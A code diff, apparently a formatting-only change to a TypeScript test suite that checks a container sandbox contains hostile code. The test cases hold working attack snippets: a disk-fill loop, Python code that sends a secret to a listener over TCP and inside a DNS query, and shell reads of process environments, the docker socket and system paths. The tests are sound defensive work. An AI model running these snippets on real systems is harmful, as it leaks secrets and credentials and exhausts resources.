@@ -36,12 +36,23 @@ export interface Judged {
 }
 
 /** A whole reply through the pipeline on `engine`, with the suite's small limits under `inputs`. */
-export async function judgeWith(engine: ContainerEngine, runId: string, text: string, inputs: Inputs = {}): Promise<Judged> {
+export async function judgeWith(
+  engine: ContainerEngine,
+  runId: string,
+  text: string,
+  inputs: Inputs = {},
+): Promise<Judged> {
   const all: Inputs = { ...HOSTILE_INPUTS, ...inputs };
   const settings = readSettings((name) => all[name] ?? "", { defaultWorkdir: process.cwd() });
   const candidate = { id: "hostile", source: "hostile", kind: "reply" as const, text };
   const started = performance.now();
-  const result = await judgeCandidate(candidate, { settings, engine, testFiles: [], runId, prepareImage: async () => undefined });
+  const result = await judgeCandidate(candidate, {
+    settings,
+    engine,
+    testFiles: [],
+    runId,
+    prepareImage: async () => undefined,
+  });
   return { result, elapsedMs: performance.now() - started };
 }
 
@@ -50,9 +61,7 @@ export class Sandbox {
   readonly engine: CliEngine;
   readonly runId = `hostile-${randomBytes(4).toString("hex")}`;
 
-  constructor(
-    readonly options: { binary?: string; runtime?: string; image?: string } = {},
-  ) {
+  constructor(readonly options: { binary?: string; runtime?: string; image?: string } = {}) {
     this.engine = new CliEngine(options.binary ? { binary: options.binary } : {});
   }
 
@@ -73,9 +82,13 @@ export class Sandbox {
   /** The runner survived the case: its removals all worked and no container of the run is left. */
   async expectClean(): Promise<void> {
     expect(await this.engine.close()).toEqual([]);
-    const left = execFileSync(this.engine.binary, ["ps", "-a", "--filter", `label=${RUN_LABEL}=${this.runId}`, "--format", "{{.Names}}"], {
-      encoding: "utf8",
-    });
+    const left = execFileSync(
+      this.engine.binary,
+      ["ps", "-a", "--filter", `label=${RUN_LABEL}=${this.runId}`, "--format", "{{.Names}}"],
+      {
+        encoding: "utf8",
+      },
+    );
     expect(left.trim()).toBe("");
   }
 }
@@ -237,20 +250,18 @@ export const LIMIT_CASES: HostileCase[] = [
     },
   },
   // Many 1 MiB files, so the tmpfs size decides and not the per-file size limit.
-  ...["/work", "/tmp"].map(
-    (dir): HostileCase => ({
-      name: `a disk fill of ${dir}`,
-      language: "bash",
-      code: `for i in $(seq 64); do head -c 1048576 /dev/zero > ${dir}/fill$i || break; done\necho "$(cat ${dir}/fill* | wc -c) bytes"\nexit 1`,
-      status: "test_failed",
-      check: ({ result }) => {
-        expect(result.stderr).toMatch(/No space left on device/);
-        const written = Number(/^(\d+) bytes$/.exec(result.stdout.trim())?.[1]);
-        expect(written).toBeGreaterThan(4 * MiB);
-        expect(written).toBeLessThanOrEqual(8 * MiB);
-      },
-    }),
-  ),
+  ...["/work", "/tmp"].map((dir): HostileCase => ({
+    name: `a disk fill of ${dir}`,
+    language: "bash",
+    code: `for i in $(seq 64); do head -c 1048576 /dev/zero > ${dir}/fill$i || break; done\necho "$(cat ${dir}/fill* | wc -c) bytes"\nexit 1`,
+    status: "test_failed",
+    check: ({ result }) => {
+      expect(result.stderr).toMatch(/No space left on device/);
+      const written = Number(/^(\d+) bytes$/.exec(result.stdout.trim())?.[1]);
+      expect(written).toBeGreaterThan(4 * MiB);
+      expect(written).toBeLessThanOrEqual(8 * MiB);
+    },
+  })),
   ...[
     ["by IP (TCP)", "s = socket.create_connection((IP, 8080), timeout=1)\ns.sendall(SECRET.encode())"],
     // A DNS query carrying the secret in its name, sent straight to the attacker's resolver.
@@ -260,35 +271,36 @@ export const LIMIT_CASES: HostileCase[] = [
         "query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + name + b'\\x00\\x01\\x00\\x01'\n" +
         "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (IP, 53))",
     ],
-  ].map(
-    ([how, send]): HostileCase => ({
-      name: `network exfiltration ${how}`,
-      language: "python",
-      code: ({ listenerIp, secret }) => `import socket\nIP = ${JSON.stringify(listenerIp)}\nSECRET = ${JSON.stringify(secret)}\n${send}\nprint('sent')`,
-      status: "test_failed",
-      check: ({ result }) => {
-        // gVisor's netstack says EHOSTUNREACH where Linux says ENETUNREACH.
-        expect(result.stderr).toMatch(/OSError: \[Errno (101|113)\] (Network is unreachable|No route to host)/);
-        expect(result.stdout).toBe("");
-      },
-    }),
-  ),
+  ].map(([how, send]): HostileCase => ({
+    name: `network exfiltration ${how}`,
+    language: "python",
+    code: ({ listenerIp, secret }) =>
+      `import socket\nIP = ${JSON.stringify(listenerIp)}\nSECRET = ${JSON.stringify(secret)}\n${send}\nprint('sent')`,
+    status: "test_failed",
+    check: ({ result }) => {
+      // gVisor's netstack says EHOSTUNREACH where Linux says ENETUNREACH.
+      expect(result.stderr).toMatch(/OSError: \[Errno (101|113)\] (Network is unreachable|No route to host)/);
+      expect(result.stdout).toBe("");
+    },
+  })),
   ...(
     [
       ["the runner's environment", "env; tr '\\0' '\\n' < /proc/self/environ", (s) => `env | grep -F ${s}`],
       ["/proc/1/environ", "tr '\\0' '\\n' < /proc/1/environ", (s) => `grep -F ${s} /proc/1/environ`],
-      ["the docker socket", "ls -l /var/run/docker.sock /run/docker.sock", () => "test -S /var/run/docker.sock || test -S /run/docker.sock"],
+      [
+        "the docker socket",
+        "ls -l /var/run/docker.sock /run/docker.sock",
+        () => "test -S /var/run/docker.sock || test -S /run/docker.sock",
+      ],
     ] satisfies [string, string, (secret: string) => string][]
-  ).map(
-    ([what, show, find]): HostileCase => ({
-      // Prints what it can see, then exits 0 only if it found the secret.
-      name: `reading ${what}`,
-      language: "bash",
-      code: ({ secret }) => `${show}\n${find(secret)}`,
-      status: "test_failed",
-      check: ({ result }, { secret }) => expect(result.stdout + result.stderr).not.toContain(secret),
-    }),
-  ),
+  ).map(([what, show, find]): HostileCase => ({
+    // Prints what it can see, then exits 0 only if it found the secret.
+    name: `reading ${what}`,
+    language: "bash",
+    code: ({ secret }) => `${show}\n${find(secret)}`,
+    status: "test_failed",
+    check: ({ result }, { secret }) => expect(result.stdout + result.stderr).not.toContain(secret),
+  })),
   {
     name: "reading a host path",
     language: "bash",
@@ -304,7 +316,7 @@ export const LIMIT_CASES: HostileCase[] = [
     // /var/tmp is world-writable, so only a read-only root keeps it out.
     name: "writing outside the work dir",
     language: "bash",
-    code: "for dir in / /etc /usr/local/bin /var/tmp /home; do echo x > \"$dir/sandbox-gate-hacked\" && echo \"wrote $dir\"; done\nexit 1",
+    code: 'for dir in / /etc /usr/local/bin /var/tmp /home; do echo x > "$dir/sandbox-gate-hacked" && echo "wrote $dir"; done\nexit 1',
     status: "test_failed",
     check: ({ result }) => {
       expect(result.stdout).toBe("");
